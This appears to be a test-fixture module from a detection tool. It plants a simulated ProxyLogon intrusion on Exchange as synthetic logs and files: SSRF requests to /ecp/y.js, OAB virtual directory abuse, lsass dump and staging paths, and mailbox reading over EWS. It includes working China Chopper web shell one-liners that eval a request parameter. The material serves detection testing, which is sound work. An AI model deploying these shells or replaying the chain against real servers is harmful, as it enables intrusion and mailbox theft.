"""The planted ProxyLogon chain, step by step, as it shows in a real collection (March 2021).

Every step is listed in ``PLANTED`` with the check expected to find it, so tests assert each one.
"""

from __future__ import annotations

from datetime import datetime, timedelta

from exhunt.demo.traffic import FQDN, Request

ATTACKER_IP = "203.0.113.77"
ATTACKER_UA = "ExchangeServicesClient/0.0.0.0"
SHELL_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0"
EXCHANGE = "C/Program Files/Microsoft/Exchange Server/V15"
SHELL_PATH = f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx"
OAB_EXPORT_PATH = "C/inetpub/wwwroot/aspnet_client/system_web/discover.aspx"
LSASS_DUMP_PATH = "C/root/lsass.dmp"
STAGED_ARCHIVE_PATH = "C/ProgramData/syslog.dat"
# The mailbox the attacker then read over EWS with heidi's stolen password (findings.json ``impact``)
EXFILTRATED = "heidi@corp.example"
SHELL_SCRIPT = (
    '<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>'
)

# (step, check id that must find it)
PLANTED = (
    ("SSRF to the back end via AnchorMailbox ServerInfo~", "proxylogon.ssrf.anchormailbox"),
    ("POSTs to /ecp/y.js carrying the SSRF", "proxylogon.ssrf.static_post"),
    ("Set-OabVirtualDirectory with a script ExternalUrl", "proxylogon.ecp.set_virtualdirectory_script"),
    ("ResetOABVirtualDirectory export to a web folder", "proxylogon.ecp.reset_virtualdirectory"),
    ("OABGenerator temporary file written into owa\\auth", "proxylogon.oabgenerator.file_write"),
    ("China Chopper page in owa\\auth", "webshell.placement"),
    ("OAB export holding the script in aspnet_client", "webshell.oab_export_script"),
    ("web-shell use over IIS", "webshell.requests"),
    ("lsass minidump in C:\\root", "postexploit.lsass_dump"),
    ("7z archive staged in ProgramData as .dat", "postexploit.staged_archive"),
)


def _ssrf(ts: datetime, target: str) -> Request:
    return Request(ts, ATTACKER_IP, "POST", "/ecp/y.js", "Ecp", 200, "", "", ATTACKER_UA,
                   f"ServerInfo~a]@{FQDN}:444/{target}#", 200)


def attack_requests(t0: datetime) -> list[Request]:
    """Front-end requests of the chain, in time order."""
    s = timedelta(seconds=1)
    canary = "msExchEcpCanary=7mJ4fQ1mGkqhd2Q8bQKp5g"
    steps = [
        _ssrf(t0, "autodiscover/autodiscover.xml?"),
        _ssrf(t0 + 2 * s, "mapi/emsmdb?"),
        _ssrf(t0 + 4 * s, "ecp/proxyLogon.ecp?"),
        _ssrf(t0 + 6 * s, f"ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&{canary}"),
        _ssrf(t0 + 9 * s, f"ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&{canary}"),
        _ssrf(t0 + 14 * s, f"ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&{canary}"),
    ]
    use = t0 + timedelta(minutes=2)
    for i in range(12):
        steps.append(Request(use + i * 20 * s, ATTACKER_IP, "POST", "/owa/auth/RedirSuiteServerProxy.aspx", "Owa",
                             200, "", "", SHELL_UA))
    for i in range(3):
        steps.append(Request(use + (300 + i * 40) * s, ATTACKER_IP, "POST", "/aspnet_client/system_web/discover.aspx",
                             "", 200, "", "", SHELL_UA))
    read = t0 + timedelta(minutes=55)  # after the lsass dump: heidi's mailbox over EWS, from the same IP
    for i in range(8):
        steps.append(Request(read + i * 30 * s, ATTACKER_IP, "POST", "/EWS/Exchange.asmx", "Ews", 200, "",
                             "CORP\\heidi", ATTACKER_UA, f"SMTP:{EXFILTRATED}"))
    return steps


def ecp_server_rows(t0: datetime) -> list[dict[str, str]]:
    ts = (t0 + timedelta(seconds=10)).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
    data = (f"S:TIME=312;S:SID=S-1-5-18;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/{SHELL_SCRIPT}'"
            ".Identity='a3f5c1e2-0d1b-4a2c-9a51-3b7c1c0e1a11';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?"
            "schema=OABVirtualDirectory;S:REFERRER=;S:EX=;S:ACTID=;S:RS=0;S:BLD=15.1.2176.2")
    return [{"TimeStamp": ts, "ServerName": "EXCH01", "EventId": "ECP.Request", "EventData": data}]


def oabgen_rows(t0: datetime) -> list[dict[str, str]]:
    ts = (t0 + timedelta(seconds=16)).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
    target = SHELL_PATH.replace("C/", "C:\\", 1).replace("/", "\\")
    return [{"DateTime": ts, "ThreadId": "27", "Level": "Error", "Organization": "",
             "Message": f"Download failed and temporary file '{target}' needs to be removed"}]


def shell_page() -> bytes:
    return b'<%@ Page Language="Jscript"%><%eval(Request.Item["orange"],"unsafe");%>\r\n'


def oab_export_page() -> bytes:
    """What Reset-OABVirtualDirectory exports: the settings text, one of them the script."""
    lines = [
        "Name                            : OAB (Default Web Site)",
        "Server                          : EXCH01",
        "PollInterval                    : 480",
        "OfflineAddressBooks             :",
        "RequireSSL                      : True",
        "BasicAuthentication             : False",
        "WindowsAuthentication           : True",
        "InternalUrl                     : https://exch01.corp.example/OAB",
        f"ExternalUrl                     : http://f/{SHELL_SCRIPT}",
        "AdminDisplayVersion             : Version 15.1 (Build 2176.2)",
    ]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")
